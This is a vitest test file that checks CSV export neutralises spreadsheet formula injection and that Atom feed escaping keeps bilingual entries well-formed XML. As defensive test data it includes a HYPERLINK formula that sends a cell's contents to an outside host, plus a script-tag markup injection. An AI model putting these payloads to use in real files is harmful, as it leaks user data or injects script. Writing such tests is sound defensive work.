/**
 * Open data and feeds under hostile text: CSV cells that a spreadsheet would run as formulas are
 * neutralised (OWASP: a leading `'`), read back with a CSV parser; Atom feeds drop the control
 * characters XML does not allow and stay well-formed for an XML parser.
 */
import { parse as parseCsv } from 'csv-parse/sync'
import { XMLParser } from 'fast-xml-parser'
import { SyntaxValidator } from 'fast-xml-validator'
import { describe, expect, it } from 'vitest'
import { toCsv } from '@mahjar/shared/csv'
import { escapeXml } from '@mahjar/shared/markup'

describe('open data CSV', () => {
  it('prefixes with an apostrophe every text cell that starts like a formula, in both languages', () => {
    const hostile = [
      '=HYPERLINK("https://other.host/?"&A1,"x")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\tTAB',
      '\rCR',
    ]
    const docs = hostile.map((text, i) => ({
      code: `AIE-F${String(i)}`,
      statement: { ar: `${text} عربي`, en: text },
      order: -i,
    }))
    const rows = parseCsv<Record<string, string>>(toCsv(docs), { bom: true, columns: true })
    rows.forEach((row, i) => {
      expect(row['statement.en']).toBe(`'${hostile[i] ?? ''}`)
      expect(row['statement.ar']).toBe(`'${hostile[i] ?? ''} عربي`)
      // Numbers are numbers, not formulas: a negative order stays as it is.
      expect(row.order).toBe(String(-i))
    })
  })

  it('leaves ordinary text alone', () => {
    const rows = parseCsv<Record<string, string>>(
      toCsv([{ code: 'AIE-F01', statement: { ar: 'أكثر من 90%', en: 'More than 90%' } }]),
      { bom: true, columns: true },
    )
    expect(rows[0]?.['statement.ar']).toBe('أكثر من 90%')
    expect(rows[0]?.['statement.en']).toBe('More than 90%')
  })
})

describe('text written into Atom feeds (escapeXml)', () => {
  const control = 'a\u0000b\u0001c\u0008d\u000Be\u000Cf\u001Fg\uFFFEh\uD800i'

  it.each([
    ['ar', `تقرير ${control} </title><script>x</script> ]]> &amp;`],
    ['en', `Report ${control} </title><script>x</script> ]]> &amp;`],
  ])('keeps an %s entry well-formed XML with control characters and markup in it', (lang, text) => {
    const xml = `<?xml version="1.0" encoding="utf-8"?><feed xml:lang="${lang}"><entry><title>${escapeXml(text)}</title></entry></feed>`
    expect(SyntaxValidator.validate(xml)).toBe(true)
    // eslint-disable-next-line no-control-regex -- the feed must hold none of the characters XML forbids
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/)
    const feed = new XMLParser().parse(xml) as { feed: { entry: { title: string } } }
    expect(feed.feed.entry.title).toContain('abcdefghi </title><script>x</script> ]]> &amp;')
  })
})
